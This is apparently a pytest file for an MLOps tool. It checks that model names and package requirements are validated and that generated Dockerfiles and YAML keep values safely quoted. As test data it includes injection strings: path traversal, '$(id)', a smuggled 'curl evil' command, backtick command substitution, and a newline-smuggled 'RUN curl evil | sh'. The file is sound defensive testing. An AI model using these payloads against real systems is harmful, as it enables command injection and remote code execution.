"""Model names are checked wherever they enter; rendered deployment files quote every value unescapably."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from security_support import rewrite_manifest, scenario_plan

import nlpops
from nlpops.checklist import NlpopsConfig, load_config
from nlpops.deploy import TARGETS, build_context, render_deployment
from nlpops.errors import ConfigError, PlanError, RegistryError
from nlpops.names import is_model_name
from nlpops.registry import SqliteRegistry
from nlpops.registry.refs import parse_ref
from nlpops.testing import TINY_TEXTS, tiny_dataset

BAD_NAMES = ["../../evil", "a/b", "x\nFROM evil", 'x" && curl evil', "x" * 65, "", " x", "$(id)", "a b", ".hidden"]


@pytest.mark.parametrize("name", BAD_NAMES)
def test_config_name_is_validated(tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "nlpops.yaml"
    config.write_text(yaml.safe_dump({"version": 1, "name": name}), encoding="utf-8")
    with pytest.raises(ConfigError, match=r"name: .*Invalid model name"):
        load_config(config)
    if "\n" not in name and name:
        monkeypatch.setenv("NLPOPS_NAME", name)
        with pytest.raises(ConfigError, match="Invalid model name"):
            load_config(None)


def test_cli_train_refuses_a_name_that_escapes_models(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    data = work / "train.csv"
    data.write_text("text,label\n" + "".join(f"{t},{label}\n" for t, label in TINY_TEXTS), encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if not k.startswith("NLPOPS_")}
    env["NLPOPS_HOME"] = str(tmp_path / "home")
    result = subprocess.run(
        [sys.executable, "-m", "nlpops", "train", "--data", str(data), "--name", "../../evil"],
        cwd=work,
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Invalid model name '../../evil'" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "evil").exists() and not (work / "models").exists()


@pytest.mark.parametrize("name", ["../x", "a/b", "x\ny"])
def test_python_api_refuses_bad_names(tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError, match="Invalid model name"):
        nlpops.train(tiny_dataset(), test=tiny_dataset(), name=name)
    assert list(tmp_path.iterdir()) == []


def test_registry_and_refs_use_the_same_rule(tmp_path: Path, tiny_bundle: nlpops.Bundle) -> None:
    with pytest.raises(RegistryError, match="Invalid model name"):
        SqliteRegistry(tmp_path / "home").register(tiny_bundle.path, name="x" * 65)
    with pytest.raises(RegistryError, match="not a valid model name"):
        parse_ref("x" * 65 + "@production")
    assert SqliteRegistry(tmp_path / "home").register(tiny_bundle.path, name="x" * 64).name == "x" * 64


@pytest.mark.parametrize("name", BAD_NAMES)
def test_deploy_refuses_a_plan_with_a_bad_name(name: str) -> None:
    plan = scenario_plan()
    plan["name"] = name
    with pytest.raises(PlanError, match="Invalid model name"):
        build_context(plan)


def test_deploy_quotes_bundle_requirements_for_the_shell(tiny_bundle: nlpops.Bundle, tmp_path: Path) -> None:
    import shutil

    bundle_dir = tmp_path / "bundle"
    shutil.copytree(tiny_bundle.path, bundle_dir)
    pwned = tmp_path / "pwned"
    evil = f'numpy; python_version == "$(touch {pwned})`touch {pwned}`"'
    rewrite_manifest(bundle_dir, lambda raw: raw["requirements"].append(evil))
    plan = scenario_plan(runtime="native-cpu")
    render_deployment(build_context(plan, bundle_dir=bundle_dir), "docker", tmp_path / "out")
    dockerfile = (tmp_path / "out" / "Dockerfile").read_text(encoding="utf-8")
    (run,) = [block for block in dockerfile.split("\nRUN ") if "pip install" in block and "numpy" in block]
    # What the RUN line's shell makes of the words: printf instead of pip shows each argument as received.
    script = (
        run.split("\n\n")[0].replace("pip install --no-deps", "printf '%s\\n'").replace("pip install", "printf '%s\\n'")
    )
    shown = subprocess.run(["sh", "-c", script], capture_output=True, text=True, cwd=tmp_path, timeout=30)
    assert shown.returncode == 0, shown.stderr
    assert evil in shown.stdout.splitlines() and not pwned.exists()


def test_deploy_refuses_a_requirement_that_is_not_pep508(tiny_bundle: nlpops.Bundle, tmp_path: Path) -> None:
    import shutil

    bundle_dir = tmp_path / "bundle"
    shutil.copytree(tiny_bundle.path, bundle_dir)
    rewrite_manifest(bundle_dir, lambda raw: raw["requirements"].append("numpy\nRUN curl evil | sh"))
    with pytest.raises(PlanError, match="not a valid requirement"):
        build_context(scenario_plan(runtime="native-cpu"), bundle_dir=bundle_dir)


_PLAIN_URL = re.compile(r"[A-Za-z0-9._~:/?#\[\]@!&'()*+,;=%-]*")
_ANY_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=40)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=_ANY_TEXT, uri_tail=_ANY_TEXT, target=st.sampled_from(TARGETS))
def test_rendered_files_keep_every_value_inside_its_quotes(
    tmp_path_factory: pytest.TempPathFactory, name: str, uri_tail: str, target: str
) -> None:
    """Any name is refused or rendered verbatim; any MLflow URI is refused or appears only inside quotes."""
    plan = scenario_plan()
    plan["name"] = name
    registry = {"backend": "mlflow", "mlflow_uri": f"http://mlflow.internal:5000/{uri_tail}"}
    try:
        ctx = build_context(plan, registry=NlpopsConfig.model_validate({"registry": registry}).registry)
    except (PlanError, ConfigError):
        assert not is_model_name(name) or not _PLAIN_URL.fullmatch(uri_tail)
        return
    assert is_model_name(name) and _PLAIN_URL.fullmatch(uri_tail)
    out = tmp_path_factory.mktemp("out")
    render_deployment(ctx, target, out)
    dockerfile = (out / "Dockerfile").read_text(encoding="utf-8")
    from dockerfile_parse import DockerfileParser

    parser = DockerfileParser(path=str(out / "Dockerfile"))
    froms = [i for i in parser.structure if i["instruction"] == "FROM"]
    assert len(froms) == 2
    envs = [i["value"] for i in parser.structure if i["instruction"] == "ENV"]
    assert any(json.dumps(registry["mlflow_uri"]) in env for env in envs)
    for path in out.rglob("*.yaml"):
        for document in yaml.safe_load_all(path.read_text(encoding="utf-8")):
            _assert_uri_only_whole(document, registry["mlflow_uri"])
    assert dockerfile.count("\nFROM ") == 2


def _assert_uri_only_whole(node: Any, uri: str) -> None:
    if isinstance(node, dict):
        for value in node.values():
            _assert_uri_only_whole(value, uri)
    elif isinstance(node, list):
        for value in node:
            _assert_uri_only_whole(value, uri)
    elif isinstance(node, str) and uri in node:
        assert node == uri
